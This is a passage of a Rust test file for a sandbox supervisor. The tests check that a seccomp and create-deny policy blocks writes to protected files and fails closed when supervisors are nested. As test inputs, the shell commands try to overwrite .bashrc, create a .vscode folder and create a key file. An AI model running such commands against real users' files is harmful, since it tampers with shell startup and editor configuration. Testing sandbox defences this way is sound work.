        f(0x15, 0, 3, arch),
        f(0x20, 0, 0, 0),
        f(0x15, 0, 1, unshare),
        f(0x06, 0, 0, SECCOMP_RET_ERRNO | libc::EPERM as u32),
        f(0x06, 0, 0, SECCOMP_RET_ALLOW),
    ];
    LinuxPlan {
        policy_hash: 1,
        namespaces: false,
        network: Network::Host,
        pid_namespace: false,
        mounts: vec![],
        create_deny: CreateDeny::default(),
        landlock: Landlock::default(),
        seccomp_arch: arch,
        seccomp: seccomp::to_bytes(&prog),
        seccomp_notify: vec![],
        env: vec![],
        deny_commands: vec![],
        allow_commands: vec![],
        without_userns: vec![],
        egress: None,
    }
}

#[test]
fn without_user_namespaces_the_supervisor_still_refuses() {
    if !ready() {
        return;
    }
    let s = Scratch::new(POLICY);
    let outer = s.dir.path().join("outer.plan");
    std::fs::write(&outer, no_userns_plan().encode()).unwrap();
    let policy = s.dir.path().join("policy.json");
    let o = Command::new(GREYWALL)
        .arg("__exec-plan")
        .arg(&outer)
        .args(["--", GREYWALL, "exec", "-s"])
        .arg(&policy)
        .args([
            "--",
            "/bin/sh",
            "-c",
            "echo ok > plain; echo x > .bashrc; mkdir .vscode; touch a.key; echo done",
        ])
        .current_dir(s.ws())
        .env_clear()
        .env("HOME", s.dir.path().join("home"))
        .env("XDG_CACHE_HOME", s.dir.path().join("cache"))
        .env("PATH", PATH)
        .output()
        .unwrap();
    assert_code(&o, 0);
    let err = stderr(&o);
    assert!(
        err.contains("user namespaces are unavailable (EPERM)"),
        "{err}"
    );
    assert_eq!(err.matches("Permission denied").count(), 3, "{err}");
    assert_eq!(stdout(&o), "done\n");
    assert!(s.at("plain").is_file());
    for p in [".bashrc", ".vscode", "a.key"] {
        assert!(!s.at(p).exists(), "{p} created");
    }
}

/// The kernel allows one seccomp listener per filter chain: a greywall with create-deny rules
/// inside another one fails closed, and says why.
#[test]
fn nested_supervisors_fail_closed() {
    if !ready() {
        return;
    }
    let s = Scratch::new(POLICY);
    // Inside the workspace: with `defaultDenyRead` nothing else of the scratch is readable.
    common::copy_exe(GREYWALL, &s.at("gw"));
    std::fs::write(s.at("p.json"), POLICY).unwrap();
    let o = s.exec(&[
        "./gw",
        "exec",
        "-s",
        "p.json",
        "--",
        "/bin/sh",
        "-c",
        "echo x > .bashrc",
    ]);
    assert_code(&o, 125);
    assert!(
        stderr(&o).contains("already runs under a seccomp supervisor"),
        "{}",
        stderr(&o)
    );
    assert!(!s.at(".bashrc").exists());
}
